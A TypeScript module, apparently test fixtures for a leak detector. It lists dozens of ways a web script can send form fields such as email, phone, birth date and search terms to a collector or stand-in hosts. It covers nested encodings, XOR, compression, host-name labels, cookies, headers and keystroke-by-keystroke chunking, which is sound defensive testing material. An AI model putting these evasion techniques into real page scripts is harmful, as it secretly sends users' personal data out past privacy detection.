import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { hashedFlows } from './hashed-flows.ts'
import {
  added,
  adobe,
  base64,
  codes,
  collector,
  digits,
  type Flow,
  get,
  hex,
  lower,
  masked,
  mirror,
  pieces,
  post,
  rot13,
  rotKeepingCase,
  socket,
  wide,
  zmq,
} from './senders.ts'

/** One way to send one field, a line each: most have been seen in the wild, the rest are what a homemade script would do. */
const wrapped: ReadonlyArray<Flow> = [
  // as it is, and in the usual wrappings
  { name: 'plain in a query', field: 'email', send: (p) => [get(`u=${p.email}`)] },
  {
    name: 'percent-encoded twice',
    field: 'email',
    send: (p) => [get(`u=${encodeURIComponent(encodeURIComponent(p.email))}`)],
  },
  {
    name: 'every letter as percent-u',
    field: 'text',
    send: (p) => [
      get(
        `u=${codes(p.text)
          .map((c) => `%u00${c.toString(16)}`)
          .join('')}`,
      ),
    ],
  },
  {
    name: 'base64url without padding',
    field: 'message',
    send: (p) => [get(`d=${Buffer.from(p.message).toString('base64url')}`)],
  },
  {
    name: 'base64 of base64 of JSON in a query',
    field: 'email',
    send: (p) => [get(`d=${encodeURIComponent(base64(base64(JSON.stringify({ a: 1, who: p.email }))))}`)],
  },
  {
    name: 'JSON in base64 in JSON in a query',
    field: 'phone',
    send: (p) => [
      get(`d=${encodeURIComponent(JSON.stringify({ v: 2, b: base64(JSON.stringify({ tel: p.phone })) }))}`),
    ],
  },
  {
    name: 'base64 broken into lines',
    field: 'message',
    send: (p) => [
      post(pieces(base64(`${'x'.repeat(52)}${p.message} and what follows it in the text`), 76).join('\r\n')),
    ],
  },
  { name: 'base64 mirrored', field: 'email', send: (p) => [get(`d=${mirror(base64(p.email))}`)] },
  { name: 'hex mirrored', field: 'email', send: (p) => [get(`d=${mirror(hex(p.email))}`)] },
  {
    name: 'base64 rotated by 13',
    field: 'email',
    send: (p) => [post(JSON.stringify({ d: rotKeepingCase(base64(p.email)) }))],
  },
  { name: 'mirrored', field: 'text', send: (p) => [get(`d=${mirror(p.text)}`)] },
  { name: 'rotated by 13', field: 'email', send: (p) => [get(`d=${rot13(lower(p.email))}`)] },
  { name: 'character codes with commas', field: 'email', send: (p) => [post(`c=${codes(p.email).join(',')}`)] },
  {
    name: 'character codes as a JSON list',
    field: 'message',
    send: (p) => [post(JSON.stringify({ c: codes(p.message) }))],
  },
  {
    name: 'a byte array as JSON writes it',
    field: 'text',
    send: (p) => [post(JSON.stringify(new Uint8Array(Buffer.from(p.text))))],
  },
  { name: 'letters as a JSON list', field: 'text', send: (p) => [post(JSON.stringify({ c: [...p.text] }))] },
  {
    name: 'hex bytes with spaces',
    field: 'email',
    send: (p) => [
      post(
        JSON.stringify({
          c: codes(p.email)
            .map((c) => c.toString(16))
            .join(' '),
        }),
      ),
    ],
  },
  {
    name: 'bits',
    field: 'text',
    send: (p) => [
      post(
        codes(p.text)
          .map((c) => c.toString(2).padStart(8, '0'))
          .join(' '),
      ),
    ],
  },
  {
    name: 'xor of one byte in base64',
    field: 'email',
    send: (p) => [get(`d=${encodeURIComponent(base64(masked(p.email, 0x93)))}`)],
  },
  {
    name: 'xor of one byte in hex',
    field: 'message',
    send: (p) => [get(`d=${masked(p.message, 0x2a).toString('hex')}`)],
  },
  {
    name: 'every code raised by three',
    field: 'email',
    send: (p) => [get(`d=${encodeURIComponent(added(p.email, 3).toString('latin1'))}`)],
  },
  {
    name: 'every code raised by 100, in base64',
    field: 'text',
    send: (p) => [post(JSON.stringify({ d: base64(added(p.text, 100)) }))],
  },
  { name: 'UTF-16 body', field: 'email', send: (p) => [post(wide(JSON.stringify({ u: p.email })))] },
  {
    name: 'UTF-16 in base64',
    field: 'message',
    send: (p) => [get(`d=${encodeURIComponent(base64(wide(p.message)))}`)],
  },
  { name: 'ascii85', field: 'email', send: (p) => [get(`d=${encodeURIComponent(`<~${adobe(p.email)}~>`)}`)] },
  {
    name: 'ascii85 without marks, in JSON',
    field: 'message',
    send: (p) => [post(JSON.stringify({ d: adobe(p.message) }))],
  },
  { name: 'z85', field: 'message', send: (p) => [post(JSON.stringify({ d: zmq(p.message) }))] },
  {
    name: 'as a label of the host name',
    field: 'text',
    send: (p) => [{ url: `https://${p.text.toLowerCase()}.nobody-knows.example/x.gif` }],
  },
  {
    name: 'hex as a label of the host name',
    field: 'text',
    send: (p) => [{ url: `https://${hex(p.text)}.nobody-knows.example/x.gif` }],
  },
  { name: 'punycode of a pure ASCII word', field: 'text', send: (p) => [get(`d=xn--${p.text}-`)] },
  {
    name: 'HTML entities',
    field: 'phone',
    send: (p) => [
      post(
        `<p>${codes(p.phone)
          .map((c) => `&#${c};`)
          .join('')}</p>`,
      ),
    ],
  },
  { name: 'in a header', field: 'email', send: (p) => [{ headers: { 'X-Visitor': base64(p.email) } }] },
  {
    name: 'in a cookie',
    field: 'email',
    send: (p) => [{ headers: { Cookie: `a=1; v=${encodeURIComponent(p.email)}` } }],
  },
  {
    name: 'in the referrer',
    field: 'search',
    send: (p) => [{ headers: { Referer: `https://clinic.example/?q=${encodeURIComponent(p.search)}` } }],
  },
  { name: 'in the path', field: 'email', send: (p) => [{ url: `${collector}/v/${encodeURIComponent(p.email)}/seen` }] },
  // compressed
  { name: 'gzip', field: 'message', send: (p) => [post(gzipSync(JSON.stringify({ note: p.message })))] },
  {
    name: 'gzip in base64 in a form',
    field: 'email',
    send: (p) => [post(`d=${encodeURIComponent(base64(gzipSync(JSON.stringify({ u: p.email }))))}`)],
  },
  { name: 'zlib', field: 'message', send: (p) => [post(deflateSync(JSON.stringify({ note: p.message })))] },
  {
    name: 'deflate without header in base64',
    field: 'message',
    send: (p) => [
      post(
        JSON.stringify({
          d: base64(deflateRawSync(JSON.stringify({ note: p.message, page: '/book', more: 'x'.repeat(20) }))),
        }),
      ),
    ],
  },
  {
    name: 'brotli',
    field: 'phone',
    send: (p) => [post(brotliCompressSync(JSON.stringify({ tel: p.phone, page: 'booking page' })))],
  },
  { name: 'gzip over a socket', field: 'email', send: (p) => [socket(gzipSync(`email=${p.email}`))] },
]

const inPieces: ReadonlyArray<Flow> = [
  // in pieces
  {
    name: 'key by key over a socket',
    field: 'message',
    send: (p) => [socket(...[...p.message].map((key) => JSON.stringify({ k: key })))],
  },
  {
    name: 'key by key, a request each',
    field: 'email',
    send: (p) => [...p.email].map((key) => get(`k=${encodeURIComponent(key)}`)),
  },
  {
    name: 'key by key in the path',
    field: 'text',
    send: (p) => [...p.text].map((key) => ({ url: `${collector}/k/${key}` })),
  },
  {
    name: 'character codes, a request each',
    field: 'text',
    send: (p) => codes(p.text).map((code) => get(`c=${code}`)),
  },
  {
    name: 'a list of key events in one body',
    field: 'email',
    send: (p) => [post(JSON.stringify([...p.email].map((key, t) => ({ key, t }))))],
  },
  {
    name: 'three parameters',
    field: 'text',
    send: (p) => [
      get(
        pieces(p.text, 4)
          .map((part, at) => `p${at}=${part}`)
          .join('&'),
      ),
    ],
  },
  {
    name: 'a phone number in three parameters',
    field: 'phone',
    send: (p) => [
      get(`area=${digits(p.phone).slice(0, 3)}&ex=${digits(p.phone).slice(3, 6)}&line=${digits(p.phone).slice(6)}`),
    ],
  },
  {
    name: 'pieces in requests of their own',
    field: 'message',
    send: (p) => pieces(p.message, 5).map((part, at) => get(`n=${at}&part=${encodeURIComponent(part)}`)),
  },
  {
    name: 'pieces of base64',
    field: 'email',
    send: (p) => pieces(base64(p.email), 6).map((part) => post(JSON.stringify({ chunk: part }))),
  },
  {
    name: 'pieces from the last to the first',
    field: 'text',
    send: (p) =>
      pieces(p.text, 4)
        .reverse()
        .map((part) => get(`part=${part}`)),
  },
  { name: 'plain text frames', field: 'message', send: (p) => [socket(...pieces(p.message, 3))] },
  {
    name: 'growing prefixes, cut off',
    field: 'last-name',
    send: (p) => [3, 4, 5, 6].map((length) => get(`q=${p['last-name'].slice(0, length)}`)),
  },
  {
    name: 'growing prefixes of an address, cut off',
    field: 'email',
    send: (p) => [4, 6, 8, 10].map((length) => get(`q=${p.email.slice(0, length)}`)),
  },
  {
    name: 'birth date in three parameters',
    field: 'birth-date',
    send: (p) => [
      post(
        JSON.stringify({
          yy: Number(p['birth-date'].slice(0, 4)),
          mm: Number(p['birth-date'].slice(5, 7)),
          dd: Number(p['birth-date'].slice(8)),
        }),
      ),
    ],
  },
  { name: 'birth date as a whole value', field: 'birth-date', send: (p) => [get(`f7=${p['birth-date']}`)] },
  {
    name: 'birth date with a time',
    field: 'birth-date',
    send: (p) => [post(JSON.stringify({ f7: `${p['birth-date']}T00:00:00.000Z` }))],
  },
]

export const flows: ReadonlyArray<Flow> = [...wrapped, ...hashedFlows, ...inPieces]
